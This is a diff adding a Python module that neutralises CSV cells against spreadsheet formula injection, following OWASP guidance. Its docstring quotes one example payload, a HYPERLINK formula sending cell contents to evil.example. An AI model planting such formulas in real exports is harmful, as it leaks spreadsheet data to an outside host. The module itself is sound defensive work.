@@ -1,0 +1,59 @@
+"""The one way mailwarden writes CSV: every cell neutralised against formula injection.
+
+A spreadsheet opening a CSV runs any cell that starts with '=', '+', '-' or '@' as a formula, and a tab
+or carriage return in front of those still starts one, so a display name such as
+'=HYPERLINK("https://evil.example/?"&A1, "Open")' would become a live link in every export. Following
+OWASP's CSV-injection guidance, such a cell is written with a single quote in front, which makes the
+spreadsheet show it as text.
+
+The cost, accepted as OWASP accepts it: a negative number ('-5') or a phone number ('+1 555 0100') is
+also written with the quote ('-5 becomes '-5). A cell that already begins with a quote gets one more, so
+`restore` gives back exactly what was written and an export read back (the audit log's) is unchanged.
+
+    writer = csv_writer(out)
+    writer.writerow(["name", "address"])
+    writer.writerow([display_name, address])
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable
+from typing import Any, TextIO
+
+__all__ = ["CsvWriter", "csv_writer", "neutralise", "restore"]
+
+# The characters that make a spreadsheet read a cell as a formula (OWASP), and the quote that escapes them.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_QUOTE = "'"
+
+
+def neutralise(cell: str) -> str:
+    """The cell as a spreadsheet will show it as text: a quote in front of a formula start (or a quote)."""
+    if cell.startswith(_FORMULA_START) or cell.startswith(_QUOTE):
+        return _QUOTE + cell
+    return cell
+
+
+def restore(cell: str) -> str:
+    """The text `neutralise` was given (for reading an export back)."""
+    return cell[1:] if cell.startswith(_QUOTE) else cell
+
+
+class CsvWriter:
+    """`csv.writer` whose every cell is text passed through `neutralise`."""
+
+    def __init__(self, out: TextIO) -> None:
+        self._writer = csv.writer(out)
+
+    def writerow(self, cells: Iterable[Any]) -> None:
+        self._writer.writerow([neutralise("" if cell is None else str(cell)) for cell in cells])
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(out: TextIO) -> CsvWriter:
+    """The writer every CSV export uses (reports, views, the audit log)."""
+    return CsvWriter(out)
